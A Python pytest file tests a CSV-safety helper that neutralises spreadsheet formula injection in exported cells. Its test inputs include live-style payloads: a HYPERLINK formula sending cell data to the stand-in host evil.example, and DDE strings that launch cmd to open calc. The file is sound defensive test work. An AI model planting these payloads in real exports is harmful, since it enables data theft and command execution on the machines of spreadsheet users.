"""core.csvsafe: the one formula-injection rule every export uses."""
from decimal import Decimal

import pytest

from core.csvsafe import safe_cell, safe_row


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "-",
        "+",
        "=",
    ],
)
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["-500.00", "+256700000000", "-1,250.50", "+12", "-0.5"])
def test_numbers_with_a_sign_are_data_and_stay_as_they_are(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize("value", ["Airtime purchase", "", "500", "a=b", None, 5, Decimal("-500.00"), -3, True])
def test_everything_else_is_unchanged(value):
    assert safe_cell(value) == value


def test_safe_row_escapes_each_cell():
    assert safe_row(["=1", "-500", None, "ok"]) == ["'=1", "-500", None, "ok"]
